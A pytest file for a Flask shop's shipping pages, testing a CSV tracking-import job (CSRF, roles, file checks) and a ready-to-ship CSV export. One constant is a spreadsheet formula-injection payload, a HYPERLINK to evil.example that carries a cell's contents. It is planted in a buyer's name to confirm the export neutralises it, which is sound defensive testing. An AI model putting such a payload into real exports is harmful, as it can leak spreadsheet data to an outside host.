"""Shipping files over HTTP: the tracking import as a bulk job, and the ready-to-ship CSV."""

from __future__ import annotations

import csv
import io
import re
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from tests.conftest import csrf_token, log_in
from tests.factories import make_customer, make_line, make_order, make_shop
from tests.services.test_tracking_import import (
    FIRST_RUN,
    MESSY,
    SECOND_RUN,
    assert_first_run_applied,
    make_messy_orders,
    state_of,
)
from web import queue
from web.models import Job, User
from web.models.enums import CommercialState, PaymentState, Role
from web.models.orders import Order
from web.services import ready_to_ship, shipments
from web.services.errors import ValidationFailed
from web.services.shipping_modes import ensure_default_shipping_modes
from web.services.timeline import Actor

PARTIAL = {"HX-Request": "true"}


def upload(client: FlaskClient, data: bytes, token: str | None = None) -> Any:
    """Send the file as the page's form does (multipart, token in the form; "" sends none)."""
    form: dict[str, Any] = {"file": (io.BytesIO(data), "suivi.csv")}
    if token != "":
        form["csrf_token"] = token or csrf_token(client, "/shipping/")
    return client.post("/shipping/tracking-import", data=form, content_type="multipart/form-data")


def counts_on(html: str) -> dict[str, int]:
    return {name: int(value) for name, value in re.findall(r'data-count="(\w+)">(\d+)<', html)}


def import_jobs(session: Session) -> int:
    query = select(func.count()).select_from(Job).where(Job.kind == "shipping.import_tracking")
    return session.scalar(query) or 0


def run_import(
    client: FlaskClient, session_factory: sessionmaker[Session], data: bytes
) -> tuple[str, str]:
    """Upload, run the job as the worker would, and return the job's URL and page."""
    response = upload(client, data)
    assert response.status_code == 303, response.get_data(as_text=True)[:500]
    location = response.headers["Location"]
    queued = client.get(location).get_data(as_text=True)
    assert 'hx-trigger="every 1s"' in queued  # the page follows the job while it runs
    assert queue.run_pending(session_factory) == 1
    return location, client.get(location).get_data(as_text=True)


# --- The import ------------------------------------------------------------------------------


def test_the_messy_file_uploaded_twice_as_a_bulk_job(
    client: FlaskClient,
    login_as: Callable[..., User],
    db_session: Session,
    session_factory: sessionmaker[Session],
) -> None:
    made = make_messy_orders(db_session)
    login_as(Role.MANAGER)
    assert 'href="/shipping/"' in client.get("/orders/").get_data(as_text=True)
    page = client.get("/shipping/").get_data(as_text=True)
    assert 'enctype="multipart/form-data"' in page

    location, html = run_import(client, session_factory, MESSY)
    assert counts_on(html) == FIRST_RUN
    assert 'data-state="done"' in html and "every 1s" not in html
    lines = re.findall(r'<tr data-line="(\d+)">', html)
    assert lines == ["7", "8", "10", "13", "14"]
    assert "commande inconnue" in html and "la commande est en attente" in html
    assert_first_run_applied(db_session, made)
    after_first = state_of(db_session)

    refused = client.get(f"{location}/refused.csv")
    assert refused.status_code == 200 and refused.mimetype == "text/csv"
    assert refused.headers["Cache-Control"] == "private, no-store"
    text = refused.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["line", "order", "tracking", "mode", "weight", "reason", "detail"]
    assert [row[0] for row in rows[1:]] == ["7", "8", "10", "13", "14"]
    assert rows[1] == ["7", "9999", "6A9999", "", "", "commande inconnue", ""]

    _location, again = run_import(client, session_factory, MESSY)
    assert counts_on(again) == SECOND_RUN
    assert state_of(db_session) == after_first

    # The refused rows, downloaded, read back as an import file: still refused, nothing done.
    _location, fixed = run_import(client, session_factory, refused.get_data())
    assert counts_on(fixed) == {"created": 0, "completed": 0, "already_there": 0, "refused": 5}
    assert state_of(db_session) == after_first


def test_the_job_fragment_is_a_fragment(
    client: FlaskClient,
    login_as: Callable[..., User],
    db_session: Session,
    session_factory: sessionmaker[Session],
) -> None:
    make_messy_orders(db_session)
    login_as(Role.MANAGER)
    location, _html = run_import(client, session_factory, b"1001;6A1\n")
    fragment = client.get(location, headers=PARTIAL).get_data(as_text=True)
    assert "<html" not in fragment and 'data-count="created">1<' in fragment
    assert "<strong>suivi.csv</strong>" in fragment  # the file's name heads the import


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"PK\x03\x04workbook", "classeur"),
        (b"Nom;Adresse\nAna;1 rue\n", "Aucune colonne utilisable"),
        (b"1" * (2 * 1024 * 1024 + 10), "2 Mo au plus"),
    ],
)
def test_an_unusable_file_is_refused_at_once_and_nothing_is_queued(
    client: FlaskClient,
    login_as: Callable[..., User],
    db_session: Session,
    data: bytes,
    message: str,
) -> None:
    login_as(Role.WAREHOUSE)
    response = upload(client, data)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert import_jobs(db_session) == 0


def test_a_viewer_is_refused_and_a_post_without_csrf_does_nothing(
    app: Flask,
    client: FlaskClient,
    login_as: Callable[..., User],
    make_user: Callable[..., User],
    db_session: Session,
) -> None:
    login_as(Role.VIEWER)
    assert 'href="/shipping/"' not in client.get("/orders/").get_data(as_text=True)
    assert client.get("/shipping/").status_code == 403
    assert client.get("/shipping/ready.csv").status_code == 403
    token = csrf_token(client, "/orders/")
    assert upload(client, b"1001;6A1\n", token=token).status_code == 403
    assert import_jobs(db_session) == 0

    other = app.test_client()
    log_in(other, make_user(Role.WAREHOUSE).email)
    assert upload(other, b"1001;6A1\n", token="").status_code == 400
    assert upload(other, b"1001;6A1\n", token="forged").status_code == 400
    assert upload(other, b"1001;6A1\n").status_code == 303
    assert import_jobs(db_session) == 1


def test_only_the_importer_and_admins_see_an_import(
    app: Flask,
    client: FlaskClient,
    login_as: Callable[..., User],
    make_user: Callable[..., User],
    db_session: Session,
) -> None:
    login_as(Role.WAREHOUSE)
    assert 'href="/shipping/"' in client.get("/warehouse/").get_data(as_text=True)
    location = upload(client, b"1001;6A1\n").headers["Location"]
    assert client.get(location).status_code == 200
    manager = app.test_client()
    log_in(manager, make_user(Role.MANAGER).email)
    assert manager.get(location).status_code == 403
    assert manager.get(f"{location}/refused.csv").status_code == 403
    admin = app.test_client()
    log_in(admin, make_user(Role.ADMIN).email)
    assert admin.get(location).status_code == 200
    assert admin.get("/shipping/tracking-import/jobs/999999").status_code == 404


# --- The ready-to-ship export ----------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def ready(db_session: Session) -> dict[str, Order]:
    """Orders in every state the export must tell apart."""
    modes = ensure_default_shipping_modes(db_session)
    shop = make_shop(db_session, "boutique", name="La Boutique")
    ready_state = {
        "commercial_state": CommercialState.VALIDATED,
        "payment_state": PaymentState.PAID,
    }
    hostile = make_customer(db_session, "evil@example.test", HOSTILE, "-Dupont")
    made = {
        "home": make_order(
            db_session,
            shop,
            [make_line("MUG", 2), make_line("TEA", 1)],
            customer=hostile,
            shipping_mode=modes["colissimo"],
            shipping_address={
                "first_name": HOSTILE,
                "last_name": "-Dupont",
                "company": "+Atelier",
                "line1": "12 rue des Lilas",
                "line2": "Bât. B",
                "postcode": "69001",
                "city": "Lyon",
                "country_code": "FR",
                "phone": "+33 6 12 34 56 78",
            },
            **ready_state,
        ),
        "relay": make_order(
            db_session,
            shop,
            [make_line("MUG", 3)],
            shipping_mode=modes["mondial_relay"],
            email="relay@example.test",
            shipping_address={
                "first_name": "Léa",
                "last_name": "Martin",
                "line1": "Relais Tabac",
                "postcode": "75011",
                "city": "Paris",
                "country_code": "FR",
                "relay_point_id": "FR-012345",
            },
            **ready_state,
        ),
        "partial": make_order(
            db_session, shop, [make_line("MUG", 3)], shipping_mode=modes["colissimo"], **ready_state
        ),
        "shipped": make_order(db_session, shop, shipping_mode=modes["colissimo"], **ready_state),
        "unpaid": make_order(
            db_session, shop, commercial_state=CommercialState.VALIDATED, shipping_mode=modes["dpd"]
        ),
        "held": make_order(db_session, shop, on_hold=True, **ready_state),
        "new": make_order(db_session, shop, payment_state=PaymentState.PAID),
    }
    partial = made["partial"]
    shipments.create_shipment(
        db_session, partial, Actor.system(), {partial.lines[0].id: 1}, ship=True
    )
    shipments.ship_everything(db_session, made["shipped"], Actor.system(), "6A1")
    db_session.commit()
    return made


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_the_export_lists_the_orders_ready_to_ship_with_what_remains(
    client: FlaskClient, login_as: Callable[..., User], ready: dict[str, Order]
) -> None:
    login_as(Role.WAREHOUSE)
    page = client.get("/shipping/").get_data(as_text=True)
    assert 'action="/shipping/ready.csv"' in page and 'value="mondial_relay"' in page
    rows = read_csv(client.get("/shipping/ready.csv"))
    numbers = [row["order_number"] for row in rows]
    assert numbers == [ready[key].number for key in ("home", "relay", "partial")]
    home, relay, partial = rows
    assert home["shipping_mode"] == "colissimo" and home["carrier"] == "Colissimo"
    assert (home["address_1"], home["address_2"], home["postcode"], home["city"]) == (
        "12 rue des Lilas",
        "Bât. B",
        "69001",
        "Lyon",
    )
    assert home["item_count"] == "3" and home["weight_kg"] == ""
    assert home["email"] == "evil@example.test" and home["shop"] == "La Boutique"
    assert relay["relay_point_id"] == "FR-012345" and relay["email"] == "relay@example.test"
    assert partial["item_count"] == "2"  # one of three already left


def test_the_export_fills_the_phone_and_email_from_wherever_the_order_has_them(
    client: FlaskClient, login_as: Callable[..., User], db_session: Session
) -> None:
    """The delivery address first, then the billing address, then the customer's account."""
    shop = make_shop(db_session, "boutique", name="La Boutique")
    ready_state = {
        "commercial_state": CommercialState.VALIDATED,
        "payment_state": PaymentState.PAID,
    }
    billed = make_order(
        db_session,
        shop,
        shipping_address={"last_name": "Roux", "region": "Bretagne", "country_code": "FR"},
        billing_address={"last_name": "Roux", "phone": "0299000000"},
        **ready_state,
    )
    account = make_order(
        db_session,
        shop,
        customer=make_customer(db_session, phone="0611223344"),
        shipping_address={"last_name": "Dupont", "line1": "1 rue Haute"},
        **ready_state,
    )
    pickup = make_order(
        db_session,
        shop,
        shipping_label="Retrait en boutique",
        email="",
        shipping_address={"last_name": "Bleu", "email": "bleu@example.test"},
        **ready_state,
    )
    db_session.commit()
    login_as(Role.WAREHOUSE)
    rows = {row["order_number"]: row for row in read_csv(client.get("/shipping/ready.csv"))}

    assert rows[billed.number]["phone"] == "0299000000"
    assert rows[billed.number]["region"] == "Bretagne"
    assert rows[billed.number]["country_code"] == "FR"
    assert rows[account.number]["phone"] == "0611223344"
    assert (rows[account.number]["address_2"], rows[account.number]["country_code"]) == ("", "")
    no_mode = rows[pickup.number]
    assert (no_mode["shipping_mode"], no_mode["carrier"], no_mode["service"]) == (
        "Retrait en boutique",
        "",
        "",
    )
    assert (no_mode["email"], no_mode["phone"]) == ("bleu@example.test", "")


def test_an_unknown_mode_is_refused_on_the_mode_field(db_session: Session) -> None:
    ensure_default_shipping_modes(db_session)
    assert ready_to_ship.mode_by_code(db_session, " Colissimo ").code == "colissimo"
    assert ready_to_ship.mode_by_code(db_session, "") is None
    with pytest.raises(ValidationFailed) as refused:
        ready_to_ship.mode_by_code(db_session, "pigeon")
    assert refused.value.errors == {"mode": "No shipping mode has this code."}


def test_a_hostile_buyer_name_stays_text_in_the_export(
    client: FlaskClient, login_as: Callable[..., User], ready: dict[str, Order]
) -> None:
    login_as(Role.MANAGER)
    home = read_csv(client.get("/shipping/ready.csv"))[0]
    assert home["first_name"] == "'" + HOSTILE
    assert home["last_name"] == "'-Dupont" and home["company"] == "'+Atelier"
    assert home["phone"] == "'+33 6 12 34 56 78"


def test_the_export_filtered_by_shipping_mode(
    client: FlaskClient, login_as: Callable[..., User], ready: dict[str, Order]
) -> None:
    login_as(Role.WAREHOUSE)
    rows = read_csv(client.get("/shipping/ready.csv?mode=mondial_relay"))
    assert [row["order_number"] for row in rows] == [ready["relay"].number]
    assert (
        "mondial_relay"
        in client.get("/shipping/ready.csv?mode=mondial_relay").headers["Content-Disposition"]
    )
    assert read_csv(client.get("/shipping/ready.csv?mode=ups")) == []
    unknown = client.get("/shipping/ready.csv?mode=pigeon")
    assert unknown.status_code == 422 and "Aucun mode de livraison" in unknown.get_data(
        as_text=True
    )


def test_the_cli_writes_the_export_for_its_owner_only(
    app: Flask, ready: dict[str, Order], tmp_path: Path
) -> None:
    path = tmp_path / "prets.csv"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["shipping", "export-ready", "--mode", "colissimo", str(path)])
    assert result.exit_code == 0, result.output
    assert "2 orders ready to ship" in result.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))
    assert [row["order_number"] for row in rows] == [ready["home"].number, ready["partial"].number]
    assert rows[0]["first_name"] == "'" + HOSTILE
    unknown = runner.invoke(args=["shipping", "export-ready", "--mode", "pigeon", str(path)])
    assert unknown.exit_code != 0
